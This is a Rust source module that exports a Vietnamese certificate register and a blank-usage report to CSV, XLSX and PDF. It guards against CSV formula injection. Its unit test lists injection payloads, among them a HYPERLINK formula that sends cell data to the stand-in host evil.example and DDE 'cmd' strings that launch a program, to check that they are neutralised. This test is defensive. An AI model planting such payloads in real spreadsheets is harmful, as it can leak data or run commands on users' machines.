//! The register printed: `.csv` (UTF-8 with BOM, so Excel opens it), `.xlsx`, and a `.pdf` in
//! the layout of a paper sổ gốc (STT, họ và tên, ngày sinh, số hiệu, số vào sổ, ngày cấp,
//! tình trạng, and a column for the recipient's signature). The only module that touches
//! rust_xlsxwriter.
//!
//! Every entry is exported, reissued and revoked ones included: a sổ gốc is never thinned out.

use std::path::{Path, PathBuf};

use rust_xlsxwriter::{Format, FormatAlign, FormatBorder, Workbook};

use std::collections::BTreeMap;

use super::book::{book_of, book_pdf, table_pdf, BLANKS_REPORT};
use crate::input::fields;
use crate::register::{BlankRow, CertRow, Register, RegisterError, Status};
use crate::render::pdf::PdfError;
use crate::viet::Date;

/// The order of the entries.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Order {
    /// The order the entries were made in (the numbers' order).
    Entry,
    /// By given name, then full name, in Vietnamese collation.
    Ten,
}

/// Why an export failed.
#[derive(Debug, thiserror::Error)]
pub enum ExportError {
    /// Reading the register.
    #[error(transparent)]
    Register(#[from] RegisterError),
    /// An extension that names no format.
    #[error("{}", crate::t!("err-export-format", path = format!("{}", .0.display())))]
    Format(PathBuf),
    /// The spreadsheet writer failed.
    #[error("{}", crate::t!("err-export-xlsx", path = format!("{}", path.display())))]
    Xlsx {
        /// The file.
        path: PathBuf,
        /// The writer's error.
        #[source]
        source: rust_xlsxwriter::XlsxError,
    },
    /// The PDF could not be made.
    #[error(transparent)]
    Pdf(#[from] PdfError),
    /// A text the bundled font cannot draw (only possible for data written by other tools).
    #[error("{}", crate::t!("err-export-layout", serial = format!("{}", .serial), message = format!("{}", .message)))]
    Layout {
        /// The entry.
        serial: String,
        /// What failed.
        message: String,
    },
    /// Writing the file.
    #[error(transparent)]
    Io(#[from] crate::error::IoError),
}

/// The columns, as a sổ gốc heads them (the words in `l10n/so-goc.ftl`; the last four were
/// added later: scripts that read the first eleven by position keep working).
const HEADERS: [&str; 15] = [
    "book-col-stt",
    "book-col-name",
    "book-col-birth",
    "book-col-serial",
    "book-col-entry",
    "book-col-issued",
    "book-col-status",
    "book-col-changed",
    "book-col-reason",
    "book-col-batch",
    "book-col-code",
    "book-col-birthplace",
    "book-col-note",
    "book-col-blank",
    "book-col-programme",
];

/// The words of columns given by their ids in `so-goc.ftl`.
fn worded(ids: &[&str]) -> Vec<String> {
    ids.iter().map(|id| crate::l10n::book(id, &[])).collect()
}

/// The reason of a revocation in Vietnamese words (the sổ gốc is a Vietnamese document whatever
/// the language of the run).
pub(super) fn reason_vi(reason: &str) -> String {
    let id = match reason {
        "issued_in_error" => "reason-issued-in-error",
        "superseded" => "reason-superseded",
        "fraud" => "reason-fraud",
        _ => return reason.to_string(),
    };
    crate::l10n::tr_in(crate::l10n::Lang::Vi, id, &[])
}

/// The Ghi chú of an entry: what happened to it (revoked on which day, why, by which decision;
/// reissued as which number, or replacing which), then the roster's own ghi_chu.
pub(super) fn note_text(r: &CertRow, all: &[CertRow], blanks: &[&BlankRow]) -> String {
    let day = r.status_date.as_deref().map(dmy).unwrap_or_default();
    let mut parts = Vec::new();
    for b in blanks {
        match (&b.spoiled, b.used) {
            (_, true) => parts.push(crate::book!("book-note-printed-on", blank = b.serial.as_str())),
            (Some((on, reason)), false) => parts.push(crate::book!(
                "book-note-blank-spoiled",
                blank = b.serial.as_str(),
                day = dmy(on),
                reason = reason.as_str()
            )),
            (None, false) => {}
        }
    }
    match r.status {
        Status::Revoked => {
            let mut s = match &r.reason {
                Some(reason) => {
                    crate::book!("book-note-revoked-why", day = day.as_str(), reason = reason_vi(reason))
                }
                None => crate::book!("book-note-revoked", day = day.as_str()),
            };
            if let Some(d) = &r.decision {
                s.push_str(&format!("; {d}"));
            }
            parts.push(s);
        }
        Status::Reissued => {
            let new = r.superseded_by.and_then(|id| all.iter().find(|c| c.id == id));
            parts.push(match new {
                Some(n) => {
                    crate::book!("book-note-reissued-as", day = day.as_str(), serial = n.so_hieu.as_str())
                }
                None => crate::book!("book-note-reissued", day = day.as_str()),
            });
        }
        Status::Spoiled => parts.push(crate::book!("book-note-spoiled", day = day.as_str())),
        Status::Issued => {}
    }
    if let Some(old) = r.supersedes.and_then(|id| all.iter().find(|c| c.id == id)) {
        parts.push(crate::book!("book-note-replaces", serial = old.so_hieu.as_str()));
    }
    let roster_note = record_value(r, "ghi_chu");
    if !roster_note.is_empty() {
        parts.push(roster_note);
    }
    parts.join("; ")
}

/// A value of the record an entry was issued from (its roster's columns, as registered).
pub(super) fn record_value(r: &CertRow, key: &str) -> String {
    crate::util::json::string_map(&r.record_json).and_then(|m| m.get(key).cloned()).unwrap_or_default()
}

pub(super) fn dmy(iso: &str) -> String {
    Date::parse_iso(iso).map(|d| d.to_string()).unwrap_or_else(|_| iso.to_string())
}

fn status_text(r: &CertRow, all: &[CertRow]) -> String {
    match (r.status, r.superseded_by) {
        (Status::Reissued, Some(id)) => match all.iter().find(|c| c.id == id) {
            Some(n) => crate::book!(
                "book-status-replaced-by",
                status = r.status.name_vi(),
                serial = n.so_hieu.as_str()
            ),
            None => r.status.name_vi(),
        },
        _ => match r.supersedes.and_then(|id| all.iter().find(|c| c.id == id)) {
            Some(old) => crate::book!(
                "book-status-replacing",
                status = r.status.name_vi(),
                serial = old.so_hieu.as_str()
            ),
            None => r.status.name_vi(),
        },
    }
}

fn row_texts(i: usize, r: &CertRow, all: &[CertRow], blanks: &[&BlankRow], programme: &str) -> Vec<String> {
    let reason = match (r.reason.as_deref().map(reason_vi), &r.decision) {
        (Some(a), Some(b)) => format!("{a}; {b}"),
        (Some(a), None) => a,
        (None, Some(b)) => b.clone(),
        (None, None) => String::new(),
    };
    vec![
        (i + 1).to_string(),
        r.ho_ten.clone(),
        r.ngay_sinh.clone(),
        r.so_hieu.clone(),
        r.so_vao_so.clone().unwrap_or_default(),
        dmy(&r.issue_date),
        status_text(r, all),
        r.status_date.as_deref().map(dmy).unwrap_or_default(),
        reason,
        r.batch.clone(),
        r.qr_text.clone(),
        record_value(r, fields::NOI_SINH),
        note_text(r, all, blanks),
        blanks.iter().find(|b| b.used).map(|b| b.serial.clone()).unwrap_or_default(),
        programme.to_string(),
    ]
}

/// Writes the register (or one batch of it) to `out`, in the format its extension names.
/// `today` dates the printed book's closing block (the library never reads the clock).
/// Returns how many entries were written.
pub fn export(
    reg: &Register,
    out: &Path,
    batch: Option<&str>,
    order: Order,
    today: Date,
) -> Result<usize, ExportError> {
    let ext = out.extension().and_then(|e| e.to_str()).map(str::to_ascii_lowercase).unwrap_or_default();
    let all = reg.entries(batch)?;
    let mut rows: Vec<&CertRow> = all.iter().collect();
    if order == Order::Ten {
        crate::input::order::sort_by_name(&mut rows, |r| r.ho_ten.as_str());
    }
    let blanks = reg.blanks(None)?;
    let mut blanks_of: BTreeMap<i64, Vec<&BlankRow>> = BTreeMap::new();
    for b in &blanks {
        if let Some((id, _, _)) = &b.certificate {
            blanks_of.entry(*id).or_default().push(b);
        }
    }
    let batch_vars = reg.batch_vars()?;
    let programmes: BTreeMap<&str, String> = batch_vars
        .iter()
        .map(|(name, vars)| {
            let vars = crate::util::json::string_map(vars).unwrap_or_default();
            (name.as_str(), vars.get("chuong_trinh").map(|v| v.trim().to_string()).unwrap_or_default())
        })
        .collect();
    let table: Vec<Vec<String>> = rows
        .iter()
        .enumerate()
        .map(|(i, r)| {
            let blanks = blanks_of.get(&r.id).map(Vec::as_slice).unwrap_or(&[]);
            let programme = programmes.get(r.batch.as_str()).map(String::as_str).unwrap_or("");
            row_texts(i, r, &all, blanks, programme)
        })
        .collect();
    // The files' own dates are the register's latest issue date, never the clock: the same
    // register exports to the same bytes.
    let last = all.iter().filter_map(|r| Date::parse_iso(&r.issue_date).ok()).max().unwrap_or(Date {
        year: 2000,
        month: 1,
        day: 1,
    });
    let bytes = match ext.as_str() {
        "csv" => csv_bytes(&worded(&HEADERS), &table),
        "xlsx" => xlsx(&worded(&HEADERS), &XLSX_WIDTHS, &XLSX_KINDS, "So goc", &table, out, last)?,
        "pdf" => book_pdf(&book_of(&rows, &all, &blanks_of, &batch_vars, today), last)?,
        _ => return Err(ExportError::Format(out.to_path_buf())),
    };
    if let Some(dir) = out.parent().filter(|d| !d.as_os_str().is_empty()) {
        std::fs::create_dir_all(dir)
            .map_err(|e| crate::error::IoError::new("cannot create folder", dir, e))?;
    }
    crate::util::files::write_atomic(out, &bytes)?;
    Ok(table.len())
}

/// The issuing body, from the batches' variables (the first batch that names one).
fn issuer_of(reg: &Register) -> Result<(String, String), ExportError> {
    for (_, vars) in reg.batch_vars()? {
        if let Some(v) = crate::util::json::string_map(&vars) {
            let get = |k: &str| v.get(k).cloned().unwrap_or_default();
            if !get("co_quan").is_empty() {
                return Ok((get("co_quan_chu_quan"), get("co_quan")));
            }
        }
    }
    Ok((String::new(), String::new()))
}

/// Writes a table as CSV the way Excel opens it without asking: UTF-8 with a BOM, comma
/// separated, CRLF line ends, fields quoted where needed, and no cell that a spreadsheet would
/// run as a formula (see [`neutralise`]).
fn csv_bytes(headers: &[String], rows: &[Vec<String>]) -> Vec<u8> {
    let mut w =
        csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(b"\xEF\xBB\xBF".to_vec());
    w.write_record(headers).expect("writing into memory cannot fail");
    for r in rows {
        w.write_record(r.iter().map(|c| neutralise(c).into_owned()))
            .expect("writing into memory cannot fail");
    }
    w.into_inner().expect("writing into memory cannot fail")
}

/// A cell that Excel, LibreOffice or Google Sheets would read as a formula (it starts with `=`,
/// `+`, `-`, `@`, a tab or a carriage return) gets a leading apostrophe, so that it shows as the
/// text it is (OWASP, "CSV Injection"). Names, units and batch names come from rosters that
/// anyone may have written; nothing in a register is ever a formula.
fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{cell}").into(),
        _ => cell.into(),
    }
}

/// Column widths of the sổ gốc in a spreadsheet (characters).
const XLSX_WIDTHS: [f64; 15] =
    [6.0, 28.0, 12.0, 16.0, 12.0, 12.0, 24.0, 14.0, 30.0, 18.0, 60.0, 24.0, 40.0, 14.0, 40.0];

/// What a spreadsheet cell holds: counts sort as numbers and dates as dates (a filter on
/// "Ngày cấp" by month works), everything else is text as printed (leading zeros kept).
#[derive(Clone, Copy, PartialEq, Eq)]
enum Kind {
    Text,
    Number,
    Date,
}

const XLSX_KINDS: [Kind; 15] = [
    Kind::Number,
    Kind::Text,
    Kind::Date,
    Kind::Text,
    Kind::Text,
    Kind::Date,
    Kind::Text,
    Kind::Date,
    Kind::Text,
    Kind::Text,
    Kind::Text,
    Kind::Text,
    Kind::Text,
    Kind::Text,
    Kind::Text,
];
const BLANK_KINDS: [Kind; 9] = [
    Kind::Number,
    Kind::Text,
    Kind::Text,
    Kind::Text,
    Kind::Text,
    Kind::Text,
    Kind::Date,
    Kind::Date,
    Kind::Text,
];

fn xlsx(
    headers: &[String],
    widths: &[f64],
    kinds: &[Kind],
    sheet: &str,
    table: &[Vec<String>],
    out: &Path,
    date: Date,
) -> Result<Vec<u8>, ExportError> {
    let err = |source: rust_xlsxwriter::XlsxError| ExportError::Xlsx { path: out.to_path_buf(), source };
    let mut wb = Workbook::new();
    let when = rust_xlsxwriter::ExcelDateTime::from_ymd(date.year, date.month, date.day).map_err(err)?;
    wb.set_properties(&rust_xlsxwriter::DocProperties::new().set_creation_datetime(&when));
    let ws = wb.add_worksheet();
    ws.set_name(sheet).map_err(err)?;
    let head = Format::new()
        .set_bold()
        .set_border(FormatBorder::Thin)
        .set_align(FormatAlign::Center)
        .set_text_wrap();
    let cell = Format::new().set_border(FormatBorder::Thin);
    let day = Format::new()
        .set_border(FormatBorder::Thin)
        .set_num_format("dd/mm/yyyy")
        .set_align(FormatAlign::Left);
    let number = Format::new().set_border(FormatBorder::Thin).set_align(FormatAlign::Center);
    for (c, (h, w)) in headers.iter().zip(widths).enumerate() {
        ws.write_string_with_format(0, c as u16, h, &head).map_err(err)?;
        ws.set_column_width(c as u16, *w).map_err(err)?;
    }
    for (r, row) in table.iter().enumerate() {
        for (c, v) in row.iter().enumerate() {
            let (r, c) = (r as u32 + 1, c as u16);
            match kinds.get(c as usize).copied().unwrap_or(Kind::Text) {
                Kind::Number if !v.is_empty() && v.bytes().all(|b| b.is_ascii_digit()) && v.len() < 15 => {
                    match v.parse::<f64>() {
                        Ok(n) => ws.write_number_with_format(r, c, n, &number).map_err(err)?,
                        Err(_) => ws.write_string(r, c, v.as_str()).map_err(err)?,
                    };
                }
                // Only a whole day is a date: a birth year alone ("1980") stays as written.
                Kind::Date if v.len() == 10 => match Date::parse_any(v) {
                    Some(d) => {
                        let when =
                            rust_xlsxwriter::ExcelDateTime::from_ymd(d.year, d.month, d.day).map_err(err)?;
                        ws.write_datetime_with_format(r, c, &when, &day).map_err(err)?;
                    }
                    None => {
                        ws.write_string_with_format(r, c, v, &cell).map_err(err)?;
                    }
                },
                _ => {
                    ws.write_string_with_format(r, c, v, &cell).map_err(err)?;
                }
            }
        }
    }
    ws.set_freeze_panes(1, 0).map_err(err)?;
    wb.save_to_buffer().map_err(err)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_cells_that_a_spreadsheet_would_run_are_shown_as_text() {
        for payload in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm vào đây\")",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
        ] {
            let bytes = csv_bytes(&["a".to_string()], &[vec![payload.to_string()]]);
            let mut r = csv::Reader::from_reader(&bytes[3..]);
            let cell = r.records().next().unwrap().unwrap()[0].to_string();
            assert_eq!(cell, format!("'{payload}"), "{payload:?}");
        }
        for plain in ["Nguyễn Văn An", "CNKT19-0042", "12/2019", "'already quoted"] {
            assert_eq!(neutralise(plain), plain);
        }
    }
}

// ---- The blank-usage report ------------------------------------------------------------------

/// The columns of the blank-usage report.
pub(super) const BLANK_HEADERS: [&str; 9] = [
    "book-col-stt",
    "book-col-batch",
    "book-col-blank",
    "book-col-status",
    "book-col-serial",
    "book-col-name",
    "book-col-printed-on",
    "book-col-spoiled-on",
    "book-col-spoil-reason",
];
const BLANK_WIDTHS: [f64; 9] = [6.0, 20.0, 14.0, 12.0, 16.0, 28.0, 12.0, 12.0, 36.0];
/// What a blank-usage report holds: its rows, and per batch how many blanks were used and
/// spoiled (blanks spoiled before anything was printed on them count under no batch).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct BlankTotals {
    /// `(batch, used, spoiled)`, in the report's order.
    pub batches: Vec<(String, usize, usize)>,
}

/// Writes the blank-usage report (every pre-printed blank: used for which certificate, or
/// spoiled on which day and why; totals per batch) to `out`, `.csv`, `.xlsx` or `.pdf` — what an
/// office files with its report on destroyed blanks.
pub fn export_blanks(reg: &Register, out: &Path, batch: Option<&str>) -> Result<BlankTotals, ExportError> {
    let ext = out.extension().and_then(|e| e.to_str()).map(str::to_ascii_lowercase).unwrap_or_default();
    let blanks = reg.blanks(batch)?;
    let mut totals = BlankTotals::default();
    let mut table = Vec::with_capacity(blanks.len());
    for (i, b) in blanks.iter().enumerate() {
        let batch = b.batch.clone().unwrap_or_default();
        if totals.batches.last().is_none_or(|(name, _, _)| *name != batch) {
            totals.batches.push((batch.clone(), 0, 0));
        }
        let t = totals.batches.last_mut().expect("just pushed");
        if b.used {
            t.1 += 1;
        } else {
            t.2 += 1;
        }
        let (serial, name) =
            b.certificate.as_ref().map(|(_, s, n)| (s.clone(), n.clone())).unwrap_or_default();
        let (spoiled_on, reason) = b.spoiled.clone().unwrap_or_default();
        table.push(vec![
            (i + 1).to_string(),
            batch,
            b.serial.clone(),
            if b.used { crate::book!("book-blank-used") } else { crate::book!("book-blank-spoiled") },
            serial,
            name,
            b.used_on.as_deref().map(dmy).unwrap_or_default(),
            if spoiled_on.is_empty() { String::new() } else { dmy(&spoiled_on) },
            reason,
        ]);
    }
    let last = blanks
        .iter()
        .flat_map(|b| [b.used_on.clone(), b.spoiled.as_ref().map(|s| s.0.clone())])
        .flatten()
        .filter_map(|d| Date::parse_iso(&d).ok())
        .max()
        .unwrap_or(Date { year: 2000, month: 1, day: 1 });
    let summary: Vec<String> = totals
        .batches
        .iter()
        .map(|(name, used, spoiled)| {
            let name = if name.is_empty() {
                crate::book!("book-blanks-unused")
            } else {
                crate::book!("book-blanks-batch", batch = name.as_str())
            };
            crate::book!(
                "book-blanks-count",
                name = name,
                used = *used,
                spoiled = *spoiled,
                total = used + spoiled
            )
        })
        .collect();
    let bytes = match ext.as_str() {
        "csv" => csv_bytes(&worded(&BLANK_HEADERS), &table),
        "xlsx" => xlsx(&worded(&BLANK_HEADERS), &BLANK_WIDTHS, &BLANK_KINDS, "Phoi", &table, out, last)?,
        "pdf" => table_pdf(&BLANKS_REPORT, &table, &issuer_of(reg)?, last, &summary)?,
        _ => return Err(ExportError::Format(out.to_path_buf())),
    };
    if let Some(dir) = out.parent().filter(|d| !d.as_os_str().is_empty()) {
        std::fs::create_dir_all(dir)
            .map_err(|e| crate::error::IoError::new("cannot create folder", dir, e))?;
    }
    crate::util::files::write_atomic(out, &bytes)?;
    Ok(totals)
}
